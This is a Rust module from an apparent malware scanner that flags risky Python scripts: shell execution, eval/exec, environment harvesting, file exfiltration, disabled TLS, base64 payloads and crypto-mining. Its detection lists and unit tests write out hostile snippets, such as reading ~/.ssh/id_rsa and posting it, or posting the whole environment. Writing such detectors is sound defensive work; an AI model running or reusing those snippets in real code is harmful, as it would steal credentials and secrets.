//! Python scripts. Comments and strings are separated from code, and most rules only look at code.

mod strip;

use chitin_secret_vocabulary::{credentials, files};

use crate::bytes::{
    byte_before, find_all_ignore_case, is_base64_byte, is_word_boundary, is_word_byte, run_length,
    skip_whitespace,
};
use crate::collector::Collector;
use crate::cryptomining;
use crate::download_exec;
use crate::obfuscation::is_encoded_payload;
use crate::rules::{
    CRYPTO_MINING, DANGEROUS_EXEC, DYNAMIC_CODE, ENV_HARVESTING, FILE_UPLOAD, HARVEST_WINDOW,
    INSECURE_TLS, OBFUSCATED_BASE64, Rule, SECRET_LITERAL, SHELL_PIPE,
};

use strip::{Stripped, strip};

/// Calls that pass a string to a shell.
const SHELL_CALLS: &[&str] = &[
    "os.system",
    "os.popen",
    "pty.spawn",
    "commands.getoutput",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
];
/// Calls that use a shell with `shell=True`.
const PROCESS_CALLS: &[&str] = &[
    "subprocess.run",
    "subprocess.call",
    "subprocess.Popen",
    "subprocess.check_output",
    "subprocess.check_call",
    "Popen",
    "check_output",
];
const SENDING: &[&str] = &[
    "requests.post",
    "requests.put",
    "requests.request",
    "httpx.post",
    "httpx.put",
    "urlopen",
    "session.post",
    "aiohttp",
    ".sendall",
    "http.client",
    "requests.get",
    "socket.socket",
];
/// Calls that send a body.
const UPLOADING: &[&str] = &[
    "requests.post",
    "requests.put",
    "httpx.post",
    "httpx.put",
    "urlopen",
    "session.post",
    ".sendall",
    ".post",
];
/// Expressions that read the whole environment.
const WHOLE_ENVIRONMENT: &[&str] = &[
    "dict(os.environ)",
    "os.environ.items()",
    "os.environ.copy()",
    "json.dumps(os.environ",
    "**os.environ",
    "str(os.environ)",
    "repr(os.environ)",
    "data=os.environ",
    "json=os.environ",
];
/// Options that turn off TLS checks.
const UNVERIFIED: &[&str] = &[
    "verify=False",
    "verify_ssl=False",
    "CERT_NONE",
    "check_hostname=False",
    "_create_unverified_context",
];

pub(crate) fn scan(text: &str, base: usize, collector: &mut Collector) {
    let Stripped { code, uncommented } = strip(text);
    let mut script = Script { code: &code, text: &uncommented, base, collector };
    script.dynamic_code();
    script.processes();
    script.sending();
    script.add(&CRYPTO_MINING, miner(&uncommented));
    script.add(&INSECURE_TLS, unverified(&code));
    script.add(&OBFUSCATED_BASE64, encoded(&uncommented));
    script.add(&SECRET_LITERAL, credentials::find(&uncommented));
    script.add(&SHELL_PIPE, script_pipe(&uncommented, &code));
}

struct Script<'t> {
    /// Without comments and the contents of strings.
    code: &'t str,
    /// Without comments.
    text: &'t str,
    base: usize,
    collector: &'t mut Collector,
}

impl Script<'_> {
    fn add(&mut self, rule: &'static Rule, found: Option<usize>) {
        if let Some(at) = found {
            self.collector.add(rule, self.base + at);
        }
    }

    fn dynamic_code(&mut self) {
        for name in ["eval", "exec", "exec_module"] {
            let member = name == "exec_module";
            for at in calls(self.code, name) {
                let dotted = byte_before(self.code.as_bytes(), at) == Some(b'.');
                let builtin = self.code.get(..at).is_some_and(|code| {
                    code.ends_with("builtins.") || code.ends_with("__builtins__.")
                });
                let defined =
                    self.code.get(..at).is_some_and(|code| code.trim_end().ends_with("def"));
                if !defined && (dotted == member || builtin) {
                    self.collector.add(&DYNAMIC_CODE, self.base + at);
                }
            }
        }
        for loader in ["marshal.loads", "pickle.loads"] {
            let decoded = ["b64decode", "requests.get", "urlopen", "recv("]
                .iter()
                .any(|part| self.code.contains(part));
            if let (true, Some(at)) = (decoded, calls(self.code, loader).first()) {
                self.collector.add(&DYNAMIC_CODE, self.base + at);
            }
        }
    }

    fn processes(&mut self) {
        for name in SHELL_CALLS {
            for at in calls(self.code, name) {
                self.collector.add(&DANGEROUS_EXEC, self.base + at);
            }
        }
        for name in PROCESS_CALLS {
            for at in calls(self.code, name) {
                if byte_before(self.code.as_bytes(), at) != Some(b'.')
                    && arguments(self.code, at).contains("shell=True")
                {
                    self.collector.add(&DANGEROUS_EXEC, self.base + at);
                }
            }
        }
    }

    fn sending(&mut self) {
        if !SENDING.iter().any(|name| self.code.contains(name)) {
            return;
        }
        let lines: Vec<(usize, &str)> = lines_of(self.code).collect();
        let sends: Vec<usize> = lines
            .iter()
            .enumerate()
            .filter(|(_, (_, line))| {
                SENDING.iter().any(|name| line.contains(name)) && !is_import(line)
            })
            .map(|(number, _)| number)
            .collect();
        let harvest = lines.iter().enumerate().find(|(number, (_, line))| {
            let close = sends.partition_point(|send| send + HARVEST_WINDOW < *number);
            WHOLE_ENVIRONMENT.iter().any(|name| line.contains(name))
                && sends.get(close).is_some_and(|send| *send <= number + HARVEST_WINDOW)
        });
        let harvest = harvest.map(|(_, (at, _))| *at);
        self.add(&ENV_HARVESTING, harvest);
        if UPLOADING.iter().any(|name| self.code.contains(name)) {
            let sensitive = lines_of(self.text).find(|(_, line)| {
                let reads =
                    ["open(", "read_text", "read_bytes", "expanduser", "Path(", "glob", "copy"]
                        .iter()
                        .any(|name| line.contains(name));
                reads && files::is_mentioned_in_code(line)
            });
            let sensitive = sensitive.map(|(at, _)| at);
            let found = sensitive.or_else(|| self.encoded_file());
            self.add(&FILE_UPLOAD, found);
        }
    }

    /// `base64.b64encode(open(…).read())`
    fn encoded_file(&self) -> Option<usize> {
        calls(self.code, "b64encode").into_iter().find(|at| {
            let arguments = arguments(self.code, *at);
            [".read()", "read_bytes", "open("].iter().any(|name| arguments.contains(name))
        })
    }
}

/// The offsets at which a function of this name is called.
fn calls(code: &str, name: &str) -> Vec<usize> {
    let bytes = code.as_bytes();
    code.match_indices(name)
        .map(|(at, _)| at)
        .filter(|at| {
            is_word_boundary(bytes, *at)
                && bytes.get(skip_whitespace(bytes, at + name.len())) == Some(&b'(')
                && !bytes.get(at + name.len()).copied().is_some_and(is_word_byte)
        })
        .collect()
}

/// The start of a call's arguments, without white space.
fn arguments(code: &str, at: usize) -> String {
    let rest = crate::bytes::window_after(code, at, 2000);
    let mut depth = 0_usize;
    let mut compact = String::new();
    for character in rest.chars() {
        match character {
            '(' => depth += 1,
            ')' if depth <= 1 => break,
            ')' => depth -= 1,
            _ => {}
        }
        if depth > 0 && !character.is_whitespace() {
            compact.push(character);
        }
    }
    compact
}

fn is_import(line: &str) -> bool {
    let line = line.trim_start();
    line.starts_with("import ") || line.starts_with("from ")
}

/// The lines of a text, with their offsets and line ends.
fn lines_of(text: &str) -> impl Iterator<Item = (usize, &str)> {
    text.split_inclusive('\n').scan(0, |at, line| {
        let start = *at;
        *at += line.len();
        Some((start, line))
    })
}

fn miner(text: &str) -> Option<usize> {
    if !cryptomining::mentions_miner(text) {
        return None;
    }
    lines_of(text)
        .find(|(_, line)| {
            cryptomining::is_use(line)
                && !["re.compile", " in ", "==", "PATTERN", "SIGNATURES", "BLOCK", "DENY", "detect"]
                    .iter()
                    .any(|part| line.contains(part))
        })
        .map(|(at, _)| at)
}

fn unverified(code: &str) -> Option<usize> {
    lines_of(code)
        .find(|(_, line)| {
            let compact: String =
                line.chars().filter(|character| !character.is_whitespace()).collect();
            UNVERIFIED.iter().any(|name| compact.contains(name)) && !compact.starts_with("def")
        })
        .map(|(at, _)| at)
}

fn encoded(text: &str) -> Option<usize> {
    find_all_ignore_case(text.as_bytes(), "b64decode").find(|at| {
        let bytes = text.as_bytes();
        let open = skip_whitespace(bytes, at + "b64decode".len());
        let quote = open
            + 1
            + run_length(bytes, open + 1, |byte| {
                matches!(byte, b'b' | b'r' | b'"' | b'\'' | b' ' | b'\n')
            });
        let length = run_length(bytes, quote, is_base64_byte);
        text.get(quote..quote + length).is_some_and(is_encoded_payload)
    })
}

/// A download that is piped into a shell, in a script that runs strings as commands.
fn script_pipe(text: &str, code: &str) -> Option<usize> {
    let runs = SHELL_CALLS.iter().chain(PROCESS_CALLS).any(|name| code.contains(name));
    runs.then(|| {
        download_exec::shell_pipe(text.as_bytes())
            .or_else(|| download_exec::executed_download(text.as_bytes()))
    })?
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(text: &str) -> Vec<&'static str> {
        let mut collector = Collector::default();
        scan(text, 0, &mut collector);
        collector
            .findings(&crate::source::Source::new(text))
            .into_iter()
            .map(|finding| finding.rule)
            .collect()
    }

    #[test]
    fn harmful_scripts() {
        for (text, rule) in [
            ("exec(code)\n", "suspicious.dynamic_code_execution"),
            ("x = eval( data )\n", "suspicious.dynamic_code_execution"),
            ("spec.loader.exec_module(m)\n", "suspicious.dynamic_code_execution"),
            ("os.system('ls ' + d)\n", "suspicious.dangerous_exec"),
            ("subprocess.run(cmd,\n    shell = True)\n", "suspicious.dangerous_exec"),
            ("d = dict(os.environ)\nrequests.post(U, json=d)\n", "malicious.env_harvesting"),
            (
                "k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post(U, data=k)\n",
                "suspicious.potential_exfiltration",
            ),
            (
                "b = base64.b64encode(open(p, 'rb').read())\nrequests.post(U, data=b)\n",
                "suspicious.potential_exfiltration",
            ),
            ("requests.get(u, verify=False)\n", "suspicious.insecure_tls_verification"),
            ("P = 'stratum+tcp://pool.invalid:3333'\n", "malicious.crypto_mining"),
        ] {
            assert_eq!(rules(text), [rule], "{text}");
        }
    }

    #[test]
    fn harmless_scripts() {
        for text in [
            "# exec(code)\n",
            "print('eval(x)')\n",
            "\"\"\"\nos.system('rm')\n\"\"\"\n",
            "model.eval()\ncursor.exec(x)\n",
            "def eval(x): pass\n",
            "ast.literal_eval(x)\nre.compile('a')\n",
            "subprocess.run(['ls'], check=True)\n",
            "import requests\nkey = os.environ['API_KEY']\nrequests.post(U, headers={'Authorization': key})\n",
            "'unterminated\nx = '''never closed",
        ] {
            assert!(rules(text).is_empty(), "{text}");
        }
    }
}
